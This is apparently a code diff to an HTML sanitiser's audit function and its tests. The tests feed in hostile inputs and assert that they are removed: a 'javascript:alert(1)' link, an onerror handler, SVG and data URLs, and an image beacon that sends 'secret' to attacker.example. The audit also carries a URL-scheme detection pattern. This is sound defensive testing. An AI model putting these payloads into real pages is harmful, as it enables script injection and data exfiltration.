@@ -60,9 +60,12 @@ TEX_LINK = re.compile(r"\\(?:href|url)\s*\{([^{}]*)\}")
 
 
 def _url_key(value: str) -> str:
-    """A URL as a browser reads it: whitespace and control characters gone, lower case."""
-    return "".join(ch for ch in html.unescape(value)
+    """A (decoded) URL as a browser reads its scheme: no whitespace or control characters."""
+    return "".join(ch for ch in value
                    if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"))).lower()
+
+
+_NOT_TYPESET = frozenset({"pre", "code"})  # math renderers skip these (MathJax skipHtmlTags)
 
 
 class _Audit(HTMLParser):
@@ -70,9 +73,20 @@ class _Audit(HTMLParser):
         super().__init__(convert_charrefs=True)
         self.allow_data_img = allow_data_img
         self.problems: list[str] = []
+        self.code_depth = 0
+        self.text: list[str] = []  # text a math renderer could typeset
+
+    def handle_data(self, data: str) -> None:
+        if not self.code_depth:
+            self.text.append(data)
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in _NOT_TYPESET and self.code_depth:
+            self.code_depth -= 1
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         found = dict(attrs)
+        self.code_depth += tag in _NOT_TYPESET
         if tag == "img":
             ok = (self.allow_data_img and DATA_IMAGE.match(found.get("src") or "")
                   and set(found) <= {"src", "alt", "class"})
@@ -85,7 +99,9 @@ class _Audit(HTMLParser):
         for name, value in attrs:
             self._attribute(tag, name, value or "")
 
-    handle_startendtag = handle_starttag
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+        self.handle_endtag(tag)
 
     def _attribute(self, tag: str, name: str, value: str) -> None:
         if name.startswith("on"):
@@ -106,9 +122,10 @@ def audit(fragment: str, *, allow_data_img: bool = False) -> list[str]:
     parser.feed(fragment)
     parser.close()
     problems = parser.problems
-    if RAW_FORBIDDEN.search(fragment):
-        problems.append(f"raw tag {RAW_FORBIDDEN.search(fragment).group(0)!r}")  # type: ignore[union-attr]
-    for m in TEX_LINK.finditer(fragment):
+    raw = RAW_FORBIDDEN.search(fragment)
+    if raw:
+        problems.append(f"raw tag {raw.group(0)!r}")
+    for m in TEX_LINK.finditer("".join(parser.text)):
         target = _url_key(m.group(1))
         if re.match(r"(javascript|vbscript|data|file):", target):
             problems.append(f"tex link {m.group(0)!r}")
@@ -170,15 +187,30 @@ def test_clean_fragment_links_are_prefixed_and_stay_in_page() -> None:
 
 def test_clean_task_list_checkbox_is_disabled() -> None:
     out = clean('<li><input type="checkbox" checked> done</li><input type="text" value="v">')
-    assert '<input checked="" disabled="" type="checkbox">' in out
-    assert out.endswith('<input disabled="" type="checkbox">')  # any input: inert checkbox
-    assert 'type="text"' not in out and "value" not in out
+    inputs = re.findall(r"<input([^>]*)>", out)  # attribute order is not stable in nh3
+    assert [sorted(re.findall(r'(\w+)="([^"]*)"', attrs)) for attrs in inputs] == [
+        [("checked", ""), ("disabled", ""), ("type", "checkbox")],
+        [("disabled", ""), ("type", "checkbox")],  # any input becomes an inert checkbox
+    ]
 
 
-def test_clean_never_keeps_images_style_or_unknown_data_attributes() -> None:
-    out = clean('<img src="data:image/png;base64,iVBORw0KGgo="><p style="color:red" '
-                'data-cnb-action="approve" data-lang="py" onclick="x">t</p>')
+def test_clean_keeps_only_inline_raster_images() -> None:
+    png = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">'
+    assert clean(png + '<img src="x" onerror="y">') == png
+    for src in ("https://attacker.example/?q=secret", "data:image/svg+xml;base64,PHN2Zz4=",
+                "javascript:alert(1)", " data:image/png;base64,AAAA", "//attacker.example/"):
+        assert clean(f'<p><img src="{src}" alt="a">t</p>') == "<p>t</p>", src
+
+
+def test_clean_drops_style_handlers_and_unknown_data_attributes() -> None:
+    out = clean('<p style="color:red" data-cnb-action="approve" data-cnb-id="t" '
+                'data-lang="py" onclick="x">t</p>')
     assert out == '<p data-lang="py">t</p>'
+
+
+def test_clean_never_links_to_data_urls() -> None:
+    for href in ("data:text/html,x", " DATA:text/html,x", "data:image/png;base64,AAAA"):
+        assert "href" not in clean(f'<a href="{href}">x</a>'), href
 
 
 def test_clean_drops_script_and_style_content() -> None:
